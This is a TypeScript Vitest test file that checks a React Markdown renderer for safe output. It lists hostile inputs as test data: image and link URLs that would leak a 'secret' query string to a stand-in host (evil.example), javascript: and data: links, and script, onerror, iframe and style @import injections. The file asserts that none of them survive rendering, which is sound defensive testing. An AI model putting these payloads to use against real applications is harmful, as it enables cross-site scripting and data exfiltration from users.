import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "./markdown";

const html = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));
const LEAD = "/leads/0190a5d0-0000-7000-8000-000000000001";

test("a lead is a link, a table is a table", () => {
  const drawn = html(`**2 leads**\n\n| Name | Value |\n| --- | --- |\n| [Ana](${LEAD}) | $1 |`);
  expect(drawn).toContain(`href="${LEAD}"`);
  expect(drawn).toContain("<table");
});

test.each([
  "![x](https://evil.example/a.png?q=secret)",
  "![x](/api/leads)",
  "[tap](https://evil.example/?q=secret)",
  "[tap](//evil.example/a)",
  "[tap](/\\evil.example)",
  "[tap](javascript:alert(1))",
  "[tap](data:text/html,x)",
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<a href='https://evil.example'>x</a>",
  "<iframe src='https://evil.example'></iframe>",
  "https://evil.example/auto?q=secret",
  "www.evil.example",
  "<https://evil.example>",
  "[x][1]\n\n[1]: https://evil.example",
  "[^1]\n\n[^1]: note",
  "<style>@import 'https://evil.example'</style>",
])("%j fetches nothing and leads nowhere", (text) => {
  const drawn = html(text);
  expect(drawn).not.toMatch(/<(img|script|iframe|style|link|object|form)\b/i);
  expect(drawn).not.toMatch(/<[^>]*\s(src|srcset|onerror|style)=/i);
  for (const [, href] of drawn.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(#|\/(?![/\\]))/);
});

test("an address outside the product is told with its host", () => {
  expect(html("[our site](https://shop.example/a)")).toContain("(shop.example)");
});
